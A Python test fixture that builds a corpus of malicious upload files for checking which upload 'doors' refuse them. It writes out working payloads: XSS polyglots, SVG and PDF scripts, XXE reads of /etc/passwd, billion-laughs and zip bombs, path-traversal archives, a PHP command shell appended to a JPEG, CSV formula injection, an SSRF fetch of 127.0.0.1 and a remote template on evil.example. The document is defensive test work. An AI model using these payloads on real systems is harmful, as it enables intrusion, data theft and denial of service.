"""Files that somebody sends to do harm, made here: each with its name, its bytes, and the doors
that may take it (as a file that does nothing, never as a page). Every other door refuses it whole.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

import pikepdf
from openpyxl import Workbook
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.factories.podcasts import mp3
from tests.files import encrypted_pdf, make_docx, make_pdf, make_zip

SCRIPT = b"<script>alert(document.domain)</script>"
GPS = (50.4669, 4.8675)
GPS_MARK = b"zq-taken-at-home"
"""stands in the metadata of the pictures: it must be in no stored file"""


@dataclass(frozen=True)
class Hostile:
    """A file, and the doors that may take it: "image", "document", "sound", "package", "proposal",
    "space", "listing", "transcript", "redirects", "portrait"."""

    name: str
    content: bytes
    taken_by: frozenset[str] = frozenset()


def _picture(kind: str, size: tuple[int, int] = (40, 30), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (20, 120, 160)).save(out, kind, **options)
    return out.getvalue()


def with_position(kind: str) -> bytes:
    """A picture of a telephone: where it was taken, by whom, turned by a quarter."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned
    exif[0x010E] = GPS_MARK.decode()
    exif[0x8825] = {1: "N", 2: (50.0, 28.0, 0.84), 3: "E", 4: (4.0, 52.0, 3.0)}
    options: dict = {"exif": exif.tobytes()}
    if kind == "PNG":
        info = PngInfo()
        info.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{GPS_MARK.decode()}</x:xmpmeta>", zip=False)
        info.add_text("Comment", GPS_MARK.decode())
        options["pnginfo"] = info
    elif kind in ("JPEG", "WEBP"):
        options["xmp"] = b"<x:xmpmeta>" + GPS_MARK + b"</x:xmpmeta>"
    if kind == "JPEG":
        options["comment"] = GPS_MARK
    return _picture(kind, **options)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *extra: bytes, data: bytes | None = None) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * (1 + 3 * 4) * 4) if data is None else data
    return b"".join(
        (
            b"\x89PNG\r\n\x1a\n",
            _chunk(b"IHDR", header),
            *extra,
            _chunk(b"IDAT", rows),
            _chunk(b"IEND", b""),
        )
    )


def _pdf(**root) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf())) as pdf:
        for name, value in root.items():
            pdf.Root[f"/{name}"] = pdf.make_indirect(value)
        pdf.save(out)
    return out.getvalue()


def _pdf_script(**options) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf())) as pdf:
        pdf.Root.OpenAction = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        )
        pdf.save(out, **options)
    return out.getvalue()


def _pdf_with_file() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf())) as pdf:
        pdf.attachments["run.exe"] = b"MZ"
        pdf.save(out)
    return out.getvalue()


def _zip_with(info: zipfile.ZipInfo, content: bytes = b"x", more: dict | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (more or {}).items():
            archive.writestr(name, data)
        archive.writestr(info, content)
    return out.getvalue()


def _named(name: str, mode: int = 0) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo("x")
    info.filename = name
    info.external_attr = mode << 16
    info.compress_type = zipfile.ZIP_DEFLATED
    return info


def _bomb(levels: int = 1) -> bytes:
    content = b"0" * 30_000_000
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(levels):
            archive.writestr(f"{number}.txt", content)
    return out.getvalue()


def _office(kind: str, extra: dict[str, bytes]) -> bytes:
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
    return make_zip({"[Content_Types].xml": b"<Types/>", main[kind]: b"<x/>", **extra})


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
    + b"ha" * 50
    + b'">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 50) for n in range(8))
    + b"]><x>&i;</x>"
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&f;</worksheet>'
)


def _workbook(part: str, content: bytes) -> bytes:
    """A right workbook with one of its parts changed, or one more."""
    book = io.BytesIO()
    made = Workbook()
    made.active.append(["site_id", "name", "postal_code", "locality"])
    made.active.append(["X1", "Atelier", "5000", "Namur"])
    made.save(book)
    out = io.BytesIO()
    with zipfile.ZipFile(book) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != part:
                new.writestr(name, old.read(name))
        new.writestr(part, content)
    return out.getvalue()


def _svg(inner: str, attributes: str = "") -> bytes:
    start = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
    return f'{start}xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>{inner}</svg>'.encode()


def _h5p(**more: bytes) -> bytes:
    about = {
        "title": "Un quiz",
        "mainLibrary": "A",
        "preloadedDependencies": [{"machineName": "A", "majorVersion": 1, "minorVersion": 0}],
    }
    files = {"h5p.json": json.dumps(about).encode(), "content/content.json": b"{}"}
    return make_zip({**files, "A-1.0/library.json": b"{}", **more})


def _id3(title: bytes) -> bytes:
    frame = b"TIT2" + struct.pack(">I", len(title) + 1) + b"\0\0" + b"\x03" + title
    size = len(frame)
    header = bytes(((size >> shift) & 0x7F) for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + header + frame + mp3()


ATTACHED = (
    b'<Relationships><Relationship Id="r1" TargetMode="External" Target="https://evil.example/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    b"</Relationships>"
)
PEOPLE = frozenset({"proposal", "space"})
"""the doors of people without access to the admin"""
TEXT = frozenset({"document"}) | PEOPLE
PICTURE = frozenset({"image", "portrait"}) | PEOPLE


@cache
def corpus() -> dict[str, Hostile]:
    """Name of the attack → file."""
    gif = b"GIF89a/*" + _picture("GIF")[8:] + b"*/=1;alert(document.domain)//"
    jpeg = _picture("JPEG")
    pdf = make_pdf()
    deep = b"[" * 100_000
    files: dict[str, Hostile] = {
        # Two kinds at once: what is kept of a picture is the picture.
        "gif and javascript": Hostile("a.gif", gif, frozenset({"image", "portrait"})),
        "gif called js": Hostile("a.js", gif),
        "jpeg and zip": Hostile("a.jpg", jpeg + make_zip({"x.html": SCRIPT}), PICTURE),
        "jpeg and html": Hostile("a.jpg", jpeg[:2] + b"\xff\xfe\0\x2a" + SCRIPT.ljust(40) + jpeg[2:], PICTURE),
        "jpeg and php": Hostile("a.php.jpg", jpeg + b"<?php system($_GET[0]); ?>", PICTURE),
        "html and pdf": Hostile("a.pdf", SCRIPT + pdf),
        "pdf and html": Hostile("a.html", pdf + SCRIPT),
        "pdf and zip": Hostile("a.zip", pdf + make_zip({"a.txt": b"x"})),
        "html as a picture": Hostile("a.png", b"<!doctype html>" + SCRIPT),
        "html as text": Hostile("a.txt", b"<html>" + SCRIPT, frozenset({"document", "transcript"})),
        "script as csv": Hostile("a.csv", b"a;b\n" + SCRIPT + b";1\n", TEXT),
        "formulas as csv": Hostile("a.csv", b'site_id,name\n=cmd|" /C calc"!A0,@SUM(1)\n', TEXT | {"listing"}),
        "html as a pdf": Hostile("a.pdf", b"<html>" + SCRIPT + b"%PDF-1.7 %%EOF"),
        "html": Hostile("a.html", b"<html>" + SCRIPT),
        "xhtml": Hostile("a.xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"),
        "mhtml": Hostile("a.mht", b"Content-Type: text/html\n\n" + SCRIPT),
        # Drawings that run
        "svg with a script": Hostile("a.svg", _svg("<script>alert(1)</script>")),
        "svg with onload": Hostile("a.svg", _svg("", 'onload="alert(1)"')),
        "svg with html": Hostile("a.svg", _svg('<foreignObject><iframe src="javascript:alert(1)"/></foreignObject>')),
        "svg with an entity": Hostile("a.svg", b'<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>' + _svg("<text>&f;</text>")),
        "svg that uses another": Hostile("a.svg", _svg('<use xlink:href="https://evil.example/x.svg#a"/>')),
        "svg that fetches": Hostile("a.svg", _svg('<image xlink:href="http://127.0.0.1:9200/"/>')),
        "svg called png": Hostile("a.png", _svg("<script>alert(1)</script>")),
        "svg packed": Hostile("a.svgz", zlib.compress(_svg(""))),
        # XML that swells or reads
        "billion laughs": Hostile("a.xml", LAUGHS),
        "laughs in a workbook": Hostile("a.xlsx", _workbook("xl/sharedStrings.xml", LAUGHS)),
        "entity in a workbook": Hostile("a.xlsx", _workbook("xl/worksheets/sheet1.xml", XXE)),
        "laughs in utf-16": Hostile("a.xlsx", _workbook("xl/worksheets/sheet1.xml", LAUGHS.decode().encode("utf-16"))),
        "entity in a letter": Hostile("a.docx", _office("docx", {"word/styles.xml": XXE})),
        # Archives
        "zip bomb": Hostile("a.zip", _bomb()),
        "zip bomb of many": Hostile("a.zip", _bomb(20)),
        "zip bomb as a letter": Hostile("a.docx", _office("docx", {}) [:0] + _zip_with(_named("word/media/a.txt"), b"0" * 30_000_000, {"[Content_Types].xml": b"<T/>", "word/document.xml": b"<x/>"})),
        "zip in zip": Hostile("a.zip", make_zip({"b.zip": make_zip({"c.txt": b"x"})})),
        "zip that climbs": Hostile("a.zip", _zip_with(_named("../../../etc/cron.d/x"))),
        "zip that climbs in Windows": Hostile("a.zip", _zip_with(_named("..\\..\\x.bat"))),
        "zip from the root": Hostile("a.zip", _zip_with(_named("/etc/passwd"))),
        "zip with a link": Hostile("a.zip", _zip_with(_named("link", 0o120777), b"/etc/passwd")),
        "zip with a program": Hostile("a.zip", make_zip({"facture.pdf.exe": b"MZ"})),
        "zip cut": Hostile("a.zip", make_zip({"a.txt": b"x" * 999})[:-30]),
        "letter that climbs": Hostile("a.docx", _zip_with(_named("../x"), b"x", {"[Content_Types].xml": b"<T/>", "word/document.xml": b"<x/>"})),
        # Office
        "macro workbook": Hostile("a.xlsm", _workbook("xl/vbaProject.bin", b"\xd0\xcf")),
        "macro workbook renamed": Hostile("a.xlsx", _workbook("xl/vbaProject.bin", b"\xd0\xcf")),
        "macro letter": Hostile("a.docm", _office("docx", {"word/vbaProject.bin": b"x"})),
        "macro letter renamed": Hostile("a.docx", _office("docx", {"word/vbaProject.bin": b"x"})),
        "macro type alone": Hostile("a.pptx", make_zip({"[Content_Types].xml": b'<T x="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"/>', "ppt/presentation.xml": b"<x/>"})),
        "remote template": Hostile("a.docx", _office("docx", {"word/_rels/settings.xml.rels": ATTACHED})),
        "old office": Hostile("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "macros of LibreOffice": Hostile("a.odt", make_zip({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"", "Basic/Standard/Module1.xml": b"<x/>"})),
        # Pictures that swell or break
        "picture of 2 gigapixels": Hostile("a.png", _png(50_000, 50_000)),
        "picture of 60 megapixels": Hostile("a.png", _png(10_000, 6_000)),
        "picture without pixels": Hostile("a.png", _png(0, 0)),
        "picture cut": Hostile("a.jpg", _picture("JPEG", (900, 700))[:900]),
        "picture cut in the head": Hostile("a.png", _picture("PNG")[:30]),
        "colour profile that swells": Hostile("a.png", _png(4, 4, _chunk(b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 80_000_000)))),
        "text that swells": Hostile("a.png", _png(4, 4, _chunk(b"zTXt", b"x\0\0" + zlib.compress(b"\0" * 80_000_000)))),
        "wrong checksum": Hostile("a.png", _picture("PNG")[:-8] + b"\0" * 8, frozenset({"image"})),
        "gif of a thousand frames": Hostile("a.gif", _frames()),
        "position of a photo (jpeg)": Hostile("a.jpg", with_position("JPEG"), PICTURE),
        "position of a photo (png)": Hostile("a.png", with_position("PNG"), PICTURE),
        "position of a photo (webp)": Hostile("a.webp", with_position("WEBP"), PICTURE),
        # PDFs that act
        "pdf with a script": Hostile("a.pdf", _pdf_script()),
        "pdf with a hidden script": Hostile("a.pdf", _pdf_script(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        "pdf with a name in disguise": Hostile("a.pdf", _pdf_script().replace(b"/JavaScript", b"/J#61v#61Script")),
        "pdf that starts a program": Hostile("a.pdf", _pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))),
        "pdf with a file": Hostile("a.pdf", _pdf_with_file()),
        "pdf with a password": Hostile("a.pdf", encrypted_pdf(), PEOPLE),
        "pdf cut": Hostile("a.pdf", pdf[: len(pdf) // 2]),
        # Sounds, words
        "html in the title of a sound": Hostile("a.mp3", _id3(SCRIPT), frozenset({"sound"}) | PEOPLE),
        "page as a sound": Hostile("a.mp3", b"ID3" + SCRIPT * 20, PEOPLE),
        "script in subtitles": Hostile("a.vtt", b"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n<v Bob>" + SCRIPT + b"<i onclick=x>Bonjour</i>\n", frozenset({"transcript"})),
        "program as subtitles": Hostile("a.vtt", b"WEBVTT\0MZ"),
        # Activities
        "activity that climbs": Hostile("a.h5p", _zip_with(_named("../../manage.py"), b"x", {"index.html": b"x"})),
        "activity with a program": Hostile("a.h5p", _h5p(**{"content/x.html": SCRIPT})),
        "activity with php": Hostile("a.h5p", _h5p(**{"A-1.0/x.php": b"<?php"})),
        "activity too deep": Hostile("a.h5p", _h5p(**{"content/content.json": deep})),
        "activity that plays": Hostile("a.h5p", _h5p(**{"A-1.0/a.js": b"parent.location='//evil.example'"}), frozenset({"package"})),
        # Programs
        "program": Hostile("a.exe", b"MZ\x90\0"),
        "program as a pdf": Hostile("facture.pdf.exe", b"MZ\x90\0" + pdf),
        "php": Hostile("a.php", b"<?php phpinfo();"),
        "php as a picture": Hostile("a.png", b"\x89PNG\r\n\x1a\n<?php phpinfo();"),
        "server settings": Hostile(".htaccess", b"AddType application/x-httpd-php .jpg"),
        "empty": Hostile("a.pdf", b""),
        "pickle": Hostile("a.csv", b"\x80\x04\x95\x0c\0\0\0\x8c\x05posix\x94"),
    }  # fmt: skip
    # Names: the content is right, the name is not. It is taken under a name that leads nowhere.
    names = {
        "name that climbs": "../../../../etc/a.pdf",
        "name of Windows": "C:\\Windows\\System32\\a.pdf",
        "name with NUL": "a.pdf\0.exe.pdf",
        "name turned round": "a\u202efdp.exe.pdf",
        "name with markup": '"><img src=x onerror=alert(1)>.pdf',
        "name hidden": ".pdf.pdf",
    }
    for what, name in names.items():
        files[what] = Hostile(name, pdf, TEXT)
    files["name of a line"] = Hostile("a\r\nSet-Cookie: x=1\r\n.pdf", pdf)
    files["name of 300 signs"] = Hostile("a" * 300 + ".pdf", pdf, frozenset({"document"}))
    files["letter with a right content"] = Hostile("a.docx", make_docx(), TEXT)
    return files


def _frames() -> bytes:
    frames = [Image.new("L", (400, 400), number % 250) for number in range(400)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()
